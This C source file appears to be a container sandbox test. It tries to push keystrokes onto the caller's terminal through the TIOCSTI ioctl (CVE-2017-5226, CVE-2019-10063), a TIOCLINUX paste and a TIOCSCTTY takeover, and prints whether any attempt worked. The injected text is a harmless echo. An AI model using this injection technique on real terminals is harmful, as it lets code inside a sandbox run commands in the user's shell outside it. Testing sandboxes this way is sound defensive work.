/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Inside a container: tries to type on the caller's terminal (CVE-2017-5226), with the request's number in 64 bits too
 * (CVE-2019-10063), to make it its own and to paste. Prints "PUSHED" and how, or "refused".
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PASTE_SELECTION 3

static int try_descriptor(int fd)
{
	static const unsigned long requests[] = { TIOCSTI, 0x100000000UL | TIOCSTI, 0xffffffff00000000UL | TIOCSTI };
	char paste = PASTE_SELECTION;

	for (int round = 0; round < 2; round++) {
		for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); i++) {
			for (const char *letter = "echo pushed\n"; *letter; letter++) {
				if (syscall(SYS_ioctl, fd, requests[i], letter) == 0)
					return printf("PUSHED by request %#lx on descriptor %d\n", requests[i], fd);
			}
		}
		if (syscall(SYS_ioctl, fd, TIOCLINUX, &paste) == 0)
			return printf("PUSHED by a paste on descriptor %d\n", fd);
		/* Once more with the terminal for our own, if it lets itself be taken. */
		if (ioctl(fd, TIOCSCTTY, 0) == 0 || ioctl(fd, TIOCSCTTY, 1) == 0)
			return printf("PUSHED: the terminal became ours on descriptor %d\n", fd);
	}
	return 0;
}

int main(void)
{
	int tty = open("/dev/tty", O_RDWR);

	if (tty >= 0)
		return printf("PUSHED: there is a controlling terminal\n");
	for (int fd = 0; fd < 3; fd++) {
		if (!isatty(fd))
			continue;
		if (try_descriptor(fd))
			return 1;
	}
	printf("refused\n");
	return 0;
}
